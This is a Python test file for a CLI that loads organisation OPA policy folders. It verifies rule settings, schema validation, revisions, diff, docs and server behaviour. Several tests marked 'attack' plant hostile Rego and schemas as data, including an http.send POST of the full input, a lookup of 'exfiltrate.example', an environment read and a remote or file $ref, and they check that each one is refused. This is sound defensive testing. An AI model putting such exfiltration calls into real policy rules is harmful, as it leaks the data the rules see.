"""Organisation policy folders (--policy, HITL_POLICY_PATH) and their rule settings, against the real OPA and CLI.

An organisation rule (tests/org_rules: `sox`, a SOX-tagged table takes the profile's SOX tier) contributes reasons
like a shipped one, reads its settings through config.rule_setting, and is refused, never ignored, when it is
outside hitl.rules, clashes with another rule's name, has no reason code, or brings a data file of any other kind.
"""

import datetime
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import requests

from conftest import ROOT, hitl, make_manifest, shipped_profile, wait_until_healthy, write_manifests, write_yaml
from hitl_cli import policy_set
from hitl_cli.engine.server import free_loopback_port
from hitl_cli.inputs import load_profile
from hitl_cli.revision import policy_revision

RULES = Path(__file__).resolve().parent / "org_rules"
SOX_WRITE = make_manifest(id="sox-write", type="read", env="dev")  # analytics.orders; a dev read is auto_approve
RULE_ONLY = ["sox.rego", "sox.schema.json", "sox.defaults.yaml"]


def org_folder(root: Path, name: str = "org", files=RULE_ONLY) -> Path:
    folder = root / name / "rules"
    folder.mkdir(parents=True)
    for file in files:
        shutil.copyfile(RULES / file, folder / file)
    return folder.parent


def acme(root: Path, settings: dict | None = None) -> Path:
    profile = shipped_profile("default")
    profile["metadata"]["name"] = "acme"
    if settings is not None:
        profile["rules"] = {"sox": settings}
    return write_yaml(root / "acme.yaml", profile)


@pytest.fixture
def plan(tmp_path) -> Path:
    return write_manifests(tmp_path, [SOX_WRITE])


def decide(plan, profile, *args, env=None):
    result = hitl("evaluate", plan, "--profile", profile, "--format", "json", *args, env=env)
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)[0]


def codes(decision) -> set[str]:
    return {reason["code"] for reason in decision["reasons"]}


def test_an_org_rule_decides_with_its_profile_setting(opa_bin, tmp_path, plan):
    folder = org_folder(tmp_path)
    decision = decide(plan, acme(tmp_path, {"tables": ["analytics.orders"]}), "--policy", folder)
    assert decision["tier"] == "double_approval"  # the rule's default tier
    assert "sox_table" in codes(decision)


def test_the_setting_is_data_a_profile_change_changes_the_decision(opa_bin, tmp_path, plan):
    folder = org_folder(tmp_path)
    escalated = decide(plan, acme(tmp_path, {"tables": ["analytics.orders"], "tier": "escalate"}), "--policy", folder)
    assert escalated["tier"] == "escalate"
    untagged = decide(plan, acme(tmp_path, {"tables": ["analytics.other"]}), "--policy", folder)
    assert untagged["tier"] == "auto_approve" and "sox_table" not in codes(untagged)


def test_hitl_policy_path_adds_folders_like_the_option(opa_bin, tmp_path, plan):
    folder = org_folder(tmp_path)
    empty_rule = org_folder(tmp_path, "other", [])
    (empty_rule / "rules" / "quiet.rego").write_text(
        "# METADATA\n# title: Quiet\n# description: Never fires.\n# custom:\n#   code: quiet\npackage hitl.rules.quiet\n\n"
        "reasons := set()\n"
    )
    path = os.pathsep.join([str(folder), str(empty_rule)])
    decision = decide(plan, acme(tmp_path, {"tables": ["analytics.orders"]}), env={"HITL_POLICY_PATH": path})
    assert "sox_table" in codes(decision)


def test_without_the_folder_the_profile_setting_is_refused(opa_bin, tmp_path, plan):
    result = hitl("evaluate", plan, "--profile", acme(tmp_path, {"tables": ["analytics.orders"]}))
    assert result.returncode == 4, result.stderr
    assert "acme.yaml: rules.sox: no organisation rule 'sox' is loaded" in result.stderr


@pytest.mark.parametrize("settings, field, message", [
    ({"tables": "analytics.orders"}, "rules.sox.tables", 'is not of type "array"'),
    ({"tables": [], "tier": "never"}, "rules.sox.tier", "is not one of"),
    ({"tables": [], "tablez": []}, "rules.sox", "Additional properties are not allowed"),
    # what YAML reads but JSON (the schema's language, and OPA's) cannot hold is refused, never a crash
    ({"tables": [datetime.date(2026, 1, 1)]}, "rules.sox.tables.0", "not a JSON value (YAML read a date"),
    ({"tables": [], "tier": b"block"}, "rules.sox.tier", "not a JSON value (YAML read a bytes"),
    ({"tables": [float("nan")], "tier": "block"}, "rules.sox.tables.0", "nan is not a finite number"),
    ({"tables": [{2: "x"}], "tier": "block"}, "rules.sox.tables.0", "key 2 is not a string"),
])
def test_a_setting_the_schema_refuses_is_invalid_input(opa_bin, tmp_path, plan, settings, field, message):
    folder = org_folder(tmp_path)
    result = hitl("evaluate", plan, "--profile", acme(tmp_path, settings), "--policy", folder)
    assert result.returncode == 4, result.stderr
    assert f"acme.yaml: {field}: " in result.stderr and message in result.stderr
    assert "Traceback" not in result.stderr


REFUSED = {
    "outside the namespace": ("main2.rego", "package hitl.main\n\nx := 1\n", "declares package hitl.main"),
    "a shipped rule's name": (
        "budget.rego",
        "# METADATA\n# title: B\n# description: B.\n# custom:\n#   code: b\npackage hitl.rules.budget\n\nreasons := set()\n",
        "has the name of a rule in hitl's own",
    ),
    "a nested package": (
        "deep.rego",
        "# METADATA\n# title: D\n# description: D.\n# custom:\n#   code: d\npackage hitl.rules.sox.deep\n\nx := 1\n",
        "declares package hitl.rules.sox.deep",
    ),
    "no reason code": ("nocode.rego", "package hitl.rules.nocode\n\nreasons := set()\n", "names no reason code"),
    # a data file would reach OPA's data tree: here it would try to add a profile
    "a stray data file": ("hitl/profiles/data.json", json.dumps({"evil": {}}), "is neither a rule's"),
}


@pytest.mark.attack
@pytest.mark.parametrize("case", sorted(REFUSED))
def test_what_an_org_folder_may_not_hold_is_a_usage_error(opa_bin, tmp_path, plan, case):
    name, text, message = REFUSED[case]
    folder = org_folder(tmp_path)
    (folder / name).parent.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(text)
    result = hitl("check", plan, "--profile", "default", "--policy", folder)
    assert result.returncode == 2, result.stderr
    assert message in result.stderr and name in result.stderr
    assert "MAY RUN" not in result.stdout


REACHING_OUT = {
    # each would let a pull request's rule leak what hitl shows it, or decide from something hitl cannot see
    "http.send": 'http.send({"method": "POST", "url": "http://127.0.0.1:9/", "body": input})',
    "net.lookup_ip_addr": 'net.lookup_ip_addr("exfiltrate.example")',
    "opa.runtime": "opa.runtime().env.HITL_SOX_OFF",
    "time.now_ns": "time.now_ns()",
    "rand.intn": 'rand.intn("sox", 2)',
    "uuid.rfc4122": 'uuid.rfc4122("sox")',
}


@pytest.mark.attack
@pytest.mark.parametrize("builtin", sorted(REACHING_OUT))
def test_an_org_rule_may_not_reach_outside_the_decision(opa_bin, tmp_path, plan, builtin):
    folder = org_folder(tmp_path)
    (folder / "rules" / "leak.rego").write_text(
        "# METADATA\n# title: Leak\n# description: Looks outside.\n# custom:\n#   code: leak\npackage hitl.rules.leak\n\n"
        f"seen := {REACHING_OUT[builtin]}\n\nreasons := set()\n"
    )
    result = hitl("check", plan, "--profile", "default", "--policy", folder)
    assert result.returncode == 2, result.stderr
    assert f"its Rego calls {builtin};" in result.stderr and len(result.stderr.strip().splitlines()) == 1
    assert "MAY RUN" not in result.stdout


@pytest.mark.attack
def test_two_org_folders_may_not_define_the_same_rule(opa_bin, tmp_path, plan):
    first, second = org_folder(tmp_path, "one"), org_folder(tmp_path, "two")
    result = hitl("check", plan, "--profile", "default", "--policy", first, "--policy", second)
    assert result.returncode == 2, result.stderr
    assert "rule sox" in result.stderr and str(first) in result.stderr


def test_a_missing_folder_is_a_usage_error(tmp_path, plan):
    result = hitl("evaluate", plan, "--profile", "default", "--policy", tmp_path / "nowhere")
    assert result.returncode == 2, result.stderr


def test_an_org_rule_that_does_not_parse_is_named_with_file_and_line(opa_bin, tmp_path, plan):
    folder = org_folder(tmp_path)
    (folder / "rules" / "sox.rego").write_text((RULES / "sox.rego").read_text() + "\nbroken := 1 +\n")
    result = hitl("evaluate", plan, "--profile", "default", "--policy", folder)
    assert result.returncode == 5, result.stderr
    assert "sox.rego:" in result.stderr and "rego_parse_error" in result.stderr
    assert result.stderr.strip().splitlines()[-1].strip() != "^"


@pytest.mark.attack
def test_a_rule_that_emits_a_non_tier_is_named_and_nothing_is_decided(opa_bin, tmp_path, plan):
    folder = org_folder(tmp_path)
    text = (RULES / "sox.rego").read_text().replace('reason.make("sox_table", settings.tier', 'reason.make("sox_table", "lenient"')
    (folder / "rules" / "sox.rego").write_text(text)
    result = hitl("check", plan, "--profile", acme(tmp_path, {"tables": ["analytics.orders"]}), "--policy", folder)
    assert result.returncode == 5, result.stderr
    assert 'rule hitl.rules.sox gave a reason whose tier "lenient" is not a tier' in result.stderr


def test_the_revision_changes_with_the_rule_its_defaults_and_its_setting(opa_bin, tmp_path, monkeypatch):
    folder = org_folder(tmp_path)

    def revision(settings) -> str:
        policy_set._policy_set.cache_clear()
        return policy_revision(load_profile(acme(tmp_path, settings)))

    shipped_only = revision(None)
    monkeypatch.setenv("HITL_POLICY_PATH", str(folder))
    base = revision({"tables": ["analytics.orders"]})
    assert base != shipped_only
    assert revision({"tables": ["analytics.ledger"]}) != base
    (folder / "rules" / "sox.defaults.yaml").write_text("tables: []\ntier: escalate\n")
    assert revision({"tables": ["analytics.orders"]}) != base
    (folder / "rules" / "sox.defaults.yaml").write_text((RULES / "sox.defaults.yaml").read_text())
    assert revision({"tables": ["analytics.orders"]}) == base
    (folder / "rules" / "sox.rego").write_text((RULES / "sox.rego").read_text() + "\n# a comment\n")
    assert revision({"tables": ["analytics.orders"]}) != base
    policy_set._policy_set.cache_clear()


def test_diff_takes_org_folders_as_the_candidate_side(opa_bin, tmp_path, plan):
    folder = org_folder(tmp_path)
    profile = acme(tmp_path)
    result = hitl("diff", "--profile", profile, "--candidate-policy", folder, "--history", plan, "--format", "json")
    assert result.returncode == 0, result.stderr  # the rule only adds oversight (its tables are none by default)
    report = json.loads(result.stdout)
    assert report["candidate"]["policy"] == [str(folder)] and report["current"]["policy"] == []
    defaults = folder / "rules" / "sox.defaults.yaml"
    defaults.write_text("tables: [analytics.orders]\ntier: escalate\n")
    result = hitl("diff", "--profile", profile, "--candidate-policy", folder, "--history", plan, "--format", "json")
    report = json.loads(result.stdout)
    assert report["changed"] == 1 and report["transitions"] == [{"from": "auto_approve", "to": "escalate", "count": 1}]


def test_docs_and_sarif_describe_the_org_rule_from_its_metadata(opa_bin, tmp_path, plan):
    folder = org_folder(tmp_path)
    docs = hitl("docs", "--policy", folder, "--profile", acme(tmp_path, {"tables": ["analytics.orders"]}))
    assert docs.returncode == 0, docs.stderr
    assert "SOX tables" in docs.stdout and "`sox_table`" in docs.stdout
    sarif = tmp_path / "hitl.sarif"
    check = hitl("check", plan, "--profile", acme(tmp_path, {"tables": ["analytics.orders"]}), "--policy", folder,
                 "--report", f"sarif={sarif}")
    assert check.returncode == 1, check.stderr
    rules = json.loads(sarif.read_text())["runs"][0]["tool"]["driver"]["rules"]
    assert any(rule["id"] == "sox_table" and "SOX" in json.dumps(rule) for rule in rules)


def test_serve_decides_with_its_org_folder_and_refuses_a_profile_whose_rule_it_lacks(opa_bin, tmp_path, plan):
    folder = org_folder(tmp_path)
    profiles = tmp_path / "profiles"
    profiles.mkdir()
    acme(profiles, {"tables": ["analytics.orders"]})
    port = free_loopback_port()
    url = f"http://127.0.0.1:{port}"
    environment = {**os.environ, "HITL_PROFILES_DIR": str(profiles)}
    command = [sys.executable, "-m", "hitl_cli", "serve", "--profile", "acme", "--state", str(tmp_path / "state.db"),
               "--addr", f"127.0.0.1:{port}"]
    server = subprocess.Popen(
        [*command, "--policy", str(folder)], cwd=ROOT, env=environment, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )
    try:
        wait_until_healthy(url, server, "hitl serve")
        answer = requests.post(f"{url}/v1/decisions", json={"manifests": [SOX_WRITE]}, timeout=30)
        assert answer.status_code == 200, answer.text
        assert "sox_table" in codes(answer.json()["decisions"][0])
    finally:
        server.terminate()
        server.wait(timeout=30)
    # Without the folder, the profile's SOX setting names a rule nobody loads: refused before serving.
    without = subprocess.run(command, cwd=ROOT, env=environment, capture_output=True, text=True, timeout=120)
    assert without.returncode == 4, without.stderr


@pytest.mark.parametrize("reference", ["http", "file"])
def test_a_settings_schema_that_refers_outside_itself_is_refused_and_nothing_is_fetched(opa_bin, tmp_path, plan, reference):
    """A PR author's schema that would pull its rules (or a secret's shape) from the network or the disk."""
    import http.server
    import threading

    asked: list[str] = []

    class Recording(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.end_headers()
            self.wfile.write(b"{}")

        def log_message(self, *args):
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Recording)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    secret = tmp_path / "elsewhere.json"
    secret.write_text("{}")
    target = f"http://127.0.0.1:{server.server_port}/tables.json" if reference == "http" else secret.as_uri()
    folder = org_folder(tmp_path)
    schema_file = folder / "rules" / "sox.schema.json"
    schema = json.loads(schema_file.read_text())
    schema["properties"]["tables"] = {"$ref": target}
    schema_file.write_text(json.dumps(schema))
    try:
        result = hitl("evaluate", plan, "--profile", acme(tmp_path, {"tables": []}), "--policy", folder)
    finally:
        server.shutdown()
    assert result.returncode == 2, result.stderr
    assert "sox.schema.json is not a JSON Schema" in result.stderr and "Traceback" not in result.stderr
    assert asked == []
